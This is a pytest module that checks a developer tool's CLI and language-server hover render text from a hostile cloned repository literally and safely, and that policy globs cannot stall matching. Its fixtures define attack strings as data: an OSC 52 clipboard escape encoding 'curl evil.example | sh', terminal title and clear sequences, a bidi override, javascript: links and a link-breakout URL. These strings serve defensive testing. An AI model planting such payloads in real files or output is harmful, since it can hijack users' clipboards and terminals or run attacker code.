"""Hostile clone, shown text: what a repository's records, decisions, snapshots, scanner
messages and file names can do to the person reading them, and what policy globs cost.

A hostile clone can put any text it likes in front of the victim: every bug record field,
decision reason, finding message, TODO comment and file name is shown, literally. It cannot
act on the victim's terminal (no escape sequence reaches stdout: no clipboard write via OSC
52, no window title, no screen clearing; bidi overrides are removed), cannot have its text
read as rich markup (``[/x]`` is printed, it crashes nothing), and cannot make a hover
render anything but its text: no images load, no link it wrote is clickable except a
record's ``https:`` commit url (percent-encoded, so it cannot break out of its link), no
HTML, no fake bold "verified" badges. ``--json`` output carries its text as data. A policy
glob cannot stall the triage: matching is linear in the path whatever the pattern, and a
glob over the caps is reported as an unreadable decision and ignored.
"""

from __future__ import annotations

import asyncio
import html
import json
import re
from pathlib import Path

import pytest
import pytest_lsp
from lsprotocol import types
from markdown_it import MarkdownIt
from pygls.uris import from_fs_path
from pytest_lsp import LanguageClient

from memory_store.bugs.records import BugStore
from memory_store.security.api import SecurityMemory
from memory_store.workspace import Workspace
from tests.lsp.conftest import CONFIG, PRESETS, WAIT, start_session, wait_until
from tests.security.hostile_repo import hostile_clone, run_teamlore, user_env

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: replace the clipboard
TITLE = "\x1b]0;sudo make me a sandwich\x07"  # OSC 0: window title
CLEAR = "\x1b[2J\x1b[H\x1b[31m"  # CSI: clear the screen, paint red
C1 = "\x9b2J\u202eevil"  # 8-bit CSI, right-to-left override
MARKUP = "[/x] [bold red]ALERT[/]"
MARKDOWN = "![pixel](https://evil.example/p.png) [verified](javascript:alert(1)) <img src=x> **✔ verified**"
ERROR = ("Traceback (most recent call last):\n  File \"app.py\", line 1, in <module>\n    import foo\n"
         "ModuleNotFoundError: No module named 'foo'\n")
RULE = "python.hostile.rule"
MALICIOUS_URL = 'https://git.example/c/1)"onmouseover=alert(1)![i](https://evil.example/i.png)'


def _bug(scratch: Workspace, error: str, first_fix: str, **fields: str) -> tuple[str, str]:
    rec = BugStore(scratch).build(error, first_fix, author="mallory", file="app.py", minutes=5)
    rec.update(schema="teamlore.bug/1", **fields)
    return f".teamlore/bugs/{rec['id']}.json", json.dumps(rec)


def _policy(scratch: Workspace, paths: str, **fields: str) -> tuple[str, str]:
    mem = SecurityMemory(scratch)
    rec = mem.add_policy([RULE], "src/**", "placeholder", author="mallory")
    (scratch.store / "security" / "decisions" / f"{rec['id']}.json").unlink()
    rec.update(schema="teamlore.security/1", paths=paths, **fields)
    rec["id"] = f"spol-{abs(hash(paths)) % 10**12:012d}"
    return f".teamlore/security/decisions/{rec['id']}.json", json.dumps(rec)


def _snapshot(date: str, items: list[str]) -> tuple[str, str]:
    rec = {"schema": "teamlore.debt/1", "id": f"{date}_0000000", "date": f"{date}T12:00:00Z",
           "created": f"{date}T12:00:00Z", "commit": None, "source": "scan", "markers": ["TODO"],
           "total": len(items), "by_marker": {"TODO": len(items)}, "files_considered": 1,
           "files": {"src/app.py": {"TODO": len(items)}} if items else {},
           "items": {"src/app.py": items} if items else {}}
    return f".teamlore/debt/snapshots/{rec['id']}.json", json.dumps(rec)


def _semgrep_report(message: str) -> str:
    return json.dumps({"version": "1.85.0", "errors": [], "results": [{
        "check_id": RULE, "path": "src/app.py", "start": {"line": 1, "col": 1}, "end": {"line": 1, "col": 10},
        "extra": {"message": message, "severity": "ERROR", "lines": "import foo", "metadata": {}}}]})


def hostile_files(tmp_path: Path) -> dict[str, str]:
    scratch = Workspace((tmp_path / "scratch").resolve())
    scratch.root.mkdir()
    files = dict([
        _bug(scratch, ERROR, "pip install foo", fix=f"pip install foo {CLIPBOARD}{MARKUP} {MARKDOWN}",
             root_cause=f"{MARKDOWN} {CLEAR}cause", author=f"mallory {TITLE}**✔ verified by security**{C1}",
             commit="abc1234def", commit_url=MALICIOUS_URL),
        _bug(scratch, ERROR.replace("foo", "bar"), "upgrade bar", commit="0badc0de", commit_url="javascript:alert(1)"),
        _policy(scratch, "src/**", reason=f"asserts are fine {MARKUP} {CLIPBOARD}", author=f"mallory {TITLE}"),
        _snapshot("2026-01-05", []),
        _snapshot("2026-02-02", [f"1: TODO {MARKUP} {TITLE}remove {CLEAR}[bold]this[/bold]"]),
    ])
    files[".teamlore/bugs/bug-[bold]pwned\x1b]0;title\x07.json"] = '{"broken": [/x]'
    files["src/app.py"] = f"import foo  # TODO {MARKUP} {TITLE}remove\nimport bar\n"
    files["semgrep.json"] = _semgrep_report(f"shell injection {MARKUP} {CLIPBOARD}{CLEAR}{MARKDOWN}")
    return files


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    return hostile_clone(tmp_path, hostile_files(tmp_path))


def wide_env(tmp_path: Path) -> dict[str, str]:
    """The victim's environment, with a terminal wide enough that no table cell wraps."""
    return user_env(tmp_path, COLUMNS="2000")


def assert_literal(out: str, *shown: str) -> None:
    """No byte a terminal acts on, and the attacker's text shown as written."""
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), repr(out[:2000])
    flat = "".join(out.split())
    for text in shown:
        assert "".join(text.split()) in flat, (text, out[:3000])


@pytest.mark.parametrize("args, shown", [
    (("bugs", "list"), ["pip install foo", "[/x]", "upgrade bar"]),
    (("bugs", "show", "{id}"), ["[/x] [bold red]ALERT[/]", "![pixel](https://evil.example/p.png)", "**✔ verified"]),
    (("security", "policy", "list"), ["asserts are fine [/x] [bold red]ALERT[/]"]),
    (("security", "ingest", "semgrep.json"), ["shell injection [/x]", "asserts are fine [/x]"]),
    (("debt", "report", "--no-blame"), ["TODO [/x] [bold red]ALERT[/]"]),
])
def test_cli_shows_hostile_text_literally(clone, tmp_path, args, shown):
    env = wide_env(tmp_path)
    bug_id = next(p.stem for p in (clone / ".teamlore" / "bugs").glob("bug-*.json") if "[" not in p.name
                  and "pip install foo" in p.read_text())
    out = run_teamlore(*(a.format(id=bug_id) for a in args), cwd=clone, env=env)
    assert out.returncode == 0, out.stderr
    assert "Traceback" not in out.stderr and "MarkupError" not in out.stderr
    assert_literal(out.stdout, *shown)
    assert_literal(out.stderr)


def test_bugs_match_shows_hostile_fix_literally(clone, tmp_path):
    out = run_teamlore("bugs", "match", "--all", "--error", "-", cwd=clone, env=wide_env(tmp_path), stdin=ERROR)
    assert out.returncode == 0, out.stderr
    assert_literal(out.stdout, "pip install foo [/x] [bold red]ALERT[/]", "[verified](javascript:alert(1))")


def test_doctor_names_hostile_file_literally(clone, tmp_path):
    out = run_teamlore("doctor", cwd=clone, env=wide_env(tmp_path))
    assert out.returncode == 1, out.stderr  # one unreadable file: reported, not a crash
    assert "Traceback" not in out.stderr
    assert_literal(out.stdout, "bug-[bold]pwned")


def test_policy_add_with_markup_in_reason_prints_it(clone, tmp_path):
    out = run_teamlore("security", "policy", "add", "--rule", "B101", "--paths", "tests/**",
                       "--reason", "pytest [/x] asserts", cwd=clone, env=wide_env(tmp_path))
    assert out.returncode == 0, out.stderr
    assert_literal(out.stdout, "(pytest [/x] asserts)")


def test_json_output_is_the_raw_data_without_raw_control_bytes(clone, tmp_path):
    bug_id = next(p.stem for p in (clone / ".teamlore" / "bugs").glob("bug-*.json")
                  if "pip install foo" in p.read_text() and "[" not in p.name)
    out = run_teamlore("bugs", "show", bug_id, "--json", cwd=clone, env=wide_env(tmp_path))
    assert_literal(out.stdout)
    rec = json.loads(out.stdout)
    assert rec["fix"] == f"pip install foo {CLIPBOARD}{MARKUP} {MARKDOWN}"
    assert rec["author"] == f"mallory {TITLE}**✔ verified by security**{C1}"


def test_policy_glob_with_fourteen_double_stars_does_not_stall_ingest(tmp_path):
    scratch = Workspace((tmp_path / "scratch").resolve())
    scratch.root.mkdir()
    linear = "**" * 14 + "Z"  # one wildcard group: accepted, and matched in linear time
    over_cap = "**/" * 14 + "Z"  # fourteen groups: over the cap, reported and ignored
    files = dict([_policy(scratch, linear, reason="hostile glob"), _policy(scratch, over_cap, reason="too many")])
    deep = "/".join(["d"] * 60) + "/app.py"
    files[deep] = "import foo\n"
    files["semgrep.json"] = _semgrep_report("finding").replace("src/app.py", deep)
    clone = hostile_clone(tmp_path, files)
    env = wide_env(tmp_path)

    out = run_teamlore("security", "ingest", "semgrep.json", "--json", cwd=clone, env=env, timeout=120)
    assert out.returncode == 0, out.stderr
    [finding] = json.loads(out.stdout)["findings"]
    assert finding["status"] == "active"  # neither glob covers the path

    doctor = run_teamlore("doctor", "--json", cwd=clone, env=env, timeout=120)
    problems = json.loads(doctor.stdout)["problems"]
    [capped] = [p for p in problems if "'paths'" in p["reason"]]
    assert "wildcard groups" in capped["reason"] and capped["path"].startswith(".teamlore/security/decisions/")
    assert len(problems) == 1  # the linear-time one is a readable policy


# -- the language server's hover --------------------------------------------------------------------

RENDERER = MarkdownIt("commonmark")


@pytest_lsp.fixture(config=CONFIG, params=PRESETS)
async def lsp_clone(request: pytest.FixtureRequest, lsp_client: LanguageClient, tmp_path: Path):
    root = hostile_clone(tmp_path, hostile_files(tmp_path))
    await start_session(lsp_client, request.param, root)
    yield
    await asyncio.wait_for(lsp_client.shutdown_session(), WAIT)


@pytest.mark.e2e
async def test_hover_renders_hostile_record_text_only_as_text(lsp_clone: LanguageClient):
    lsp_client = lsp_clone
    root: Path = lsp_client.root  # type: ignore[attr-defined]
    path = root / "src" / "app.py"
    uri = from_fs_path(str(path))
    lsp_client.text_document_did_open(types.DidOpenTextDocumentParams(text_document=types.TextDocumentItem(
        uri=uri, language_id="python", version=1, text=path.read_text())))
    lsp_client.protocol.notify("teamlore/didChangeDiagnostics", {"uri": uri, "diagnostics": [{
        "range": {"start": {"line": line, "character": 7}, "end": {"line": line, "character": 10}},
        "message": f"ModuleNotFoundError: No module named '{name}'", "source": "pyright", "severity": 1}
        for line, name in ((0, "foo"), (1, "bar"))]})

    async def hover(line: int, fix: str) -> str | None:
        result = await asyncio.wait_for(lsp_client.text_document_hover_async(types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=uri), position=types.Position(line=line, character=8))),
            WAIT)
        value = result.contents.value if result else ""
        return value if fix in value else None

    text = await wait_until(lambda: hover(0, "pip install foo"), what="hover with the hostile record")
    assert "![" not in text and "\x1b" not in text and "\u202e" not in text
    rendered = RENDERER.render(text)
    assert "<img" not in rendered and "<strong>✔" not in rendered
    hrefs = re.findall(r'href="([^"]*)"', rendered)
    assert all(h.startswith(("https://git.example/c/1", "file://")) for h in hrefs), hrefs
    [commit] = [h for h in hrefs if h.startswith("https://")]
    assert not re.search(r"[()\"'<> \[\]]", html.unescape(commit))  # the url stayed inside its link
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert "![pixel](https://evil.example/p.png)" in shown and "[/x] [bold red]ALERT[/]" in shown
    assert "**✔ verified by security**" in shown and "[verified](javascript:alert(1))" in shown

    other = RENDERER.render(await wait_until(lambda: hover(1, "upgrade bar"), what="hover with javascript: url"))
    assert "commit 0badc0de" in other and "javascript:" not in "".join(re.findall(r'href="[^"]*"', other))
    assert all(h.startswith("file://") for h in re.findall(r'href="([^"]*)"', other))
